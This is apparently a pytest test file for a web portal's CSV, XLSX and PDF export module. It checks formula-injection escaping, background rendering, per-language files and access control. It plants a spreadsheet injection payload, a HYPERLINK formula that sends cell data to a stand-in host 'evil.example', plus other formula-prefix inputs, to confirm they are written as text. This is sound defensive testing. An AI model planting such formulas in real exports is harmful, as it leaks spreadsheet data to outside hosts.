"""The shared export module: safe cells in every CSV and XLSX of the portal,
stored files per state and language rendered in the background, claimed once,
served from storage; the "being prepared" page and its polling fragment."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import AnonymousUser
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from portal import exports
from portal.exports import REGISTRY, csv_bytes, export_render, export_request, neutralise, xlsx_bytes
from portal.models import StoredExport
from portal.roles import Role
from tests.utils import body, fetch_export

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DANGEROUS = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


# ------------------------------------------------------------ the writers

@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    assert neutralise(value) == "'" + value
    rows = list(csv.reader(io.StringIO(csv_bytes(["Header"], [[value]]).decode("utf-8-sig"), newline="")))
    assert rows == [["Header"], ["'" + value]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["Header"], [[value]], title="T"))).active
    cell = sheet.cell(row=2, column=1)
    # (XML reads a lone CR back as LF.)
    assert (cell.value.replace("\n", "\r"), cell.data_type) == (("'" + value).replace("\n", "\r"), "s")


def test_numbers_and_ordinary_text_are_left_alone():
    assert [neutralise(v) for v in (-5, 3.5, Decimal("-1.50"), "Kenya", "", None)] == [
        -5, 3.5, Decimal("-1.50"), "Kenya", "", ""]
    # A negative amount stays a number in the sheet, never text.
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["n"], [[-5]], title="T"))).active
    assert sheet.cell(row=2, column=1).value == -5


def test_csv_is_utf8_with_a_bom_and_a_human_header():
    content = csv_bytes(["Organisation", "Pays"], [["Société Générale des Écoles", "Côte d'Ivoire"]])
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig").splitlines() == ["Organisation,Pays", "Société Générale des Écoles,Côte d'Ivoire"]


def test_pdf_settings_follow_the_language():
    with translation.override("ar"):
        assert exports.typst_language() == {"lang": "ar", "region": "", "dir": "rtl"}
    with translation.override("zh-hans"):
        assert exports.typst_language() == {"lang": "zh", "region": "cn", "dir": "ltr"}


# ------------------------------------------- a planted formula, every export

def _consolidated_list(planted):
    from tests.accreditation.factories import committee_member, ngo_committee
    from tests.accreditation.test_consolidated_list_queries import _list_with

    clist = _list_with(2)
    clist.entries.filter(position=1).update(organisation_name=planted)
    committee = ngo_committee()
    return clist, committee_member(committee), {}


def _consultation(planted):
    from participation.models import Consultation, ConsultationResponse

    now = timezone.now()
    c = Consultation.objects.create(title="Q", question="Which?", opens_at=now - datetime.timedelta(hours=1),
                                    closes_at=now + datetime.timedelta(hours=1))
    ConsultationResponse.objects.create(consultation=c, text=planted, respondent_key="k1")
    from tests.factories import UserFactory

    return c, UserFactory(role=Role.SECRETARIAT), {}


def _donor_report(planted):
    from tests.factories import UserFactory
    from tests.trustfund import factories as f

    fund = f.participation_fund()
    manager = f.staff()
    f.fund_money(fund, "1000", by=manager, donor_name=planted)
    return fund, UserFactory(role=Role.DONOR), {"year": str(timezone.localdate().year)}


def _directory(planted):
    from tests.partnerships.factories import OrganisationFactory

    OrganisationFactory(name=planted, accredited=True)
    return None, AnonymousUser(), {}


def _tracker(planted):
    from partnerships.models import Proposal

    Proposal.objects.create(number=99, title="Planted", progress_note=planted)
    return None, AnonymousUser(), {}


def _measures(planted):
    from partnerships.models import ReformMeasureValue

    # A dimension the page has no label for comes out as stored.
    ReformMeasureValue.objects.create(taken_on=timezone.localdate(), measure="inquiries", dimension=planted, value=5)
    return None, AnonymousUser(), {}


BUILDERS = {
    "accreditation.consolidated_list": _consolidated_list,
    "participation.consultation": _consultation,
    "trustfund.donor_report": _donor_report,
    "partnerships.directory": _directory,
    "partnerships.tracker": _tracker,
    "partnerships.measures": _measures,
}

SHEETS = sorted((name, fmt) for name, exp in REGISTRY.items() for fmt in exp.formats if fmt in ("csv", "xlsx"))


def test_every_spreadsheet_export_is_covered_by_the_planted_formula_test():
    assert {name for name, _fmt in SHEETS} == set(BUILDERS)


def test_every_export_link_goes_through_the_shared_module():
    """Any URL that ends like a document (.csv, .xlsx, .pdf, /pdf/, export.<fmt>)
    is served by a view that answers through portal.exports (no hand-written writer)."""
    import inspect

    def walk(patterns, prefix=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                yield from walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                yield prefix + str(p.pattern), p.callback

    found = [(route, view) for route, view in walk(get_resolver().url_patterns)
             if any(mark in route for mark in (".csv", ".xlsx", ".pdf", "pdf/", "export."))
             and not route.startswith("api/")]
    assert len(found) >= 9
    for route, view in found:
        source = inspect.getsource(inspect.unwrap(view))
        assert "_export(" in source or "exports.respond" in source or "_report_export" in source, route


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "fmt"), SHEETS)
def test_a_planted_formula_comes_out_as_text(name, fmt):
    obj, user, variant = BUILDERS[name](FORMULA)
    row = export_request(exporter=name, obj=obj, fmt=fmt, by=user, variant=variant, language="en")
    assert export_render(export_id=row.pk) is True
    row.refresh_from_db()
    with row.file.open("rb") as fh:
        content = fh.read()
    if fmt == "csv":
        assert content.startswith("\ufeff".encode())
        cells = [c for r in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in r]
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
        cells = [c.value for r in sheet.iter_rows() for c in r]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


# ------------------------------------------------- stored, claimed, served

@pytest.fixture
def listed_export(db):
    from tests.accreditation.factories import committee_member
    from tests.accreditation.test_consolidated_list_queries import _list_with

    clist = _list_with(4)
    return clist, committee_member()


def test_a_render_is_claimed_once_and_a_stale_claim_is_taken_over(listed_export):
    clist, member = listed_export
    row = export_request(exporter="accreditation.consolidated_list", obj=clist, fmt="csv", by=member)
    StoredExport.objects.filter(pk=row.pk).update(state="running", started_at=timezone.now())
    assert export_render(export_id=row.pk) is False  # another worker holds it
    StoredExport.objects.filter(pk=row.pk).update(started_at=timezone.now() - datetime.timedelta(hours=1))
    assert export_render(export_id=row.pk) is True  # abandoned: taken over
    assert export_render(export_id=row.pk) is False  # done: nothing to do
    row.refresh_from_db()
    assert (row.state, row.progress, row.attempts) == ("ready", 100, 1)


def test_a_new_decision_is_a_new_state_and_the_older_file_goes(listed_export):
    from accreditation.models import Decision

    clist, member = listed_export
    first = export_request(exporter="accreditation.consolidated_list", obj=clist, fmt="csv", by=member,
                           variant={"decisions": "1"})
    export_render(export_id=first.pk)
    again = export_request(exporter="accreditation.consolidated_list", obj=clist, fmt="csv", by=member,
                           variant={"decisions": "1"})
    assert again.pk == first.pk
    app = clist.entries.get(position=2).application
    Decision.objects.create(application=app, session=clist.session, outcome="close")
    newer = export_request(exporter="accreditation.consolidated_list", obj=clist, fmt="csv", by=member,
                           variant={"decisions": "1"})
    assert newer.pk != first.pk and newer.version != first.version
    export_render(export_id=newer.pk)
    assert list(StoredExport.objects.values_list("pk", flat=True)) == [newer.pk]


def test_a_failed_render_is_shown_and_tried_again_on_the_next_request(listed_export, monkeypatch):
    clist, member = listed_export
    exporter = REGISTRY["accreditation.consolidated_list"]
    row = export_request(exporter=exporter.name, obj=clist, fmt="csv", by=member)

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(type(exporter), "render", broken)
    assert export_render(export_id=row.pk) is False
    row.refresh_from_db()
    assert (row.state, row.error) == ("failed", "RuntimeError: disk full")
    monkeypatch.undo()
    retried = export_request(exporter=exporter.name, obj=clist, fmt="csv", by=member)
    assert (retried.pk, retried.state) == (row.pk, "pending")


def test_each_language_is_a_file_of_its_own_with_translated_headers(listed_export, client):
    clist, member = listed_export
    client.force_login(member)
    url = reverse("accreditation:list-export", args=[clist.pk, "csv"])
    english = fetch_export(client, url, {"lang": "en"})[2].decode("utf-8-sig").splitlines()[0]
    french = fetch_export(client, url, {"lang": "fr"})[2].decode("utf-8-sig").splitlines()[0]
    assert english.startswith("No.,Organisation,Acronym,Country")
    assert french != english and "Pays" in french
    assert sorted(StoredExport.objects.values_list("language", flat=True)) == ["en", "fr"]


def test_a_bad_language_is_a_400_naming_the_field(listed_export, client):
    clist, member = listed_export
    client.force_login(member)
    response = client.get(reverse("accreditation:list-export", args=[clist.pk, "pdf"]), {"lang": "xx"})
    assert response.status_code == 400
    assert response.content.decode().startswith("lang:")


def test_being_prepared_page_polls_then_offers_the_file(listed_export, client, django_capture_on_commit_callbacks):
    clist, member = listed_export
    client.force_login(member)
    url = reverse("accreditation:list-export", args=[clist.pk, "xlsx"])
    with django_capture_on_commit_callbacks() as queued:
        page = client.get(url)
    assert page.status_code == 202
    row = StoredExport.objects.get()
    status_url = reverse("export-status", args=[row.pk])
    assert f'hx-get="{status_url}"' in page.content.decode() and "<script" not in page.content.decode().split(
        "<main", 1)[-1].split("</main>")[0]
    fragment = client.get(status_url, headers={"HX-Request": "true"}).content.decode()
    assert 'hx-trigger="every 2s"' in fragment and "<progress" in fragment
    for callback in queued:
        callback()
    fragment = client.get(status_url, headers={"HX-Request": "true"}).content.decode()
    assert "hx-trigger" not in fragment and reverse("export-download", args=[row.pk]) in fragment
    download = client.get(reverse("export-download", args=[row.pk]))
    assert download["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="consolidated-list-2031-regular-v1.xlsx"' in download["Content-Disposition"]
    assert body(download)[:2] == b"PK"


def test_other_roles_and_outsiders_cannot_read_a_stored_export(listed_export, client, make_user):
    from tests.accreditation.factories import committee_member

    clist, member = listed_export
    row = export_request(exporter="accreditation.consolidated_list", obj=clist, fmt="csv", by=member)
    export_render(export_id=row.pk)
    from accreditation.models import Committee

    other_committee = Committee.objects.exclude(pk=clist.session.committee_id).first()
    outsiders = [make_user(role=Role.NGO), make_user(role=Role.DONOR), make_user(role=Role.BOARD),
                 make_user(role=Role.FOCAL_POINT)]
    if other_committee is not None:
        outsiders.append(committee_member(other_committee))
    for user in outsiders:
        client.force_login(user)
        for name in ("export-status", "export-download"):
            assert client.get(reverse(name, args=[row.pk])).status_code == 404, (user.role, name)
    client.logout()
    assert client.get(reverse("export-download", args=[row.pk])).status_code == 404
    client.force_login(member)
    assert body(client.get(reverse("export-download", args=[row.pk]))).startswith("\ufeff".encode())


def test_purge_drops_files_nobody_asked_for(listed_export):
    clist, member = listed_export
    row = export_request(exporter="accreditation.consolidated_list", obj=clist, fmt="csv", by=member)
    export_render(export_id=row.pk)
    assert exports.exports_purge(days=1) == 0
    StoredExport.objects.filter(pk=row.pk).update(requested_at=timezone.now() - datetime.timedelta(days=3))
    assert exports.exports_purge(days=1) == 1
    assert not StoredExport.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["ar", "zh-hans", "ru"])
def test_the_consolidated_list_pdf_renders_in_each_script(language):
    from tests.accreditation.factories import committee_member
    from tests.accreditation.test_consolidated_list_queries import _list_with

    clist = _list_with(3)
    clist.entries.filter(position=1).update(organisation_name="منظمة المجتمع المدني 基金会 Общество")
    row = export_request(exporter="accreditation.consolidated_list", obj=clist, fmt="pdf", by=committee_member(),
                         language=language)
    assert export_render(export_id=row.pk) is True
    row.refresh_from_db()
    with row.file.open("rb") as fh:
        pdf = fh.read()
    assert pdf.startswith(b"%PDF-")
    # The fonts of every script are embedded (Noto for Arabic and Chinese).
    assert b"NotoNaskhArabic" in pdf and b"NotoSansCJK" in pdf
